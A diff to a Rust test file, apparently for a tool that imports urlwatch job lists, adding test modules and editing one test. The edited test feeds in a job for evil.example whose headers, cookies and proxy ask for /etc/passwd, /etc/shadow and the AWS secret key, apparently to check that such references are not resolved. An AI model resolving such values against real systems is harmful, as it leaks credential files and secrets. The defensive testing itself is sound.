@@ -85,7 +85,7 @@ fn headers_cookies_and_proxies_of_strangers_name_no_files_and_variables() {
     let jobs = "url: https://evil.example/\n\
         headers: {X-A: 'file:/etc/passwd', X-B: harmless}\n\
         cookies: {c: 'env:AWS_SECRET_ACCESS_KEY'}\n\
-        http_proxy: 'file:/etc/shadow'\n\
+        https_proxy: 'file:/etc/shadow'\n\
         user_agent: 'env:HOME'\n";
     let imported = Imported::parse(jobs.as_bytes(), Format::Urlwatch).unwrap();
     let [watch] = imported.watches.as_slice() else { panic!("{imported:?}") };
@@ -421,4 +421,8 @@ fn files_are_told_apart_by_what_stands_in_them() {
     assert!(Imported::read(&path, None).unwrap_err().to_string().contains("cannot tell what"));
 }
 
+mod fields;
+mod jobs;
+mod outcome;
 mod rules;
+mod table;
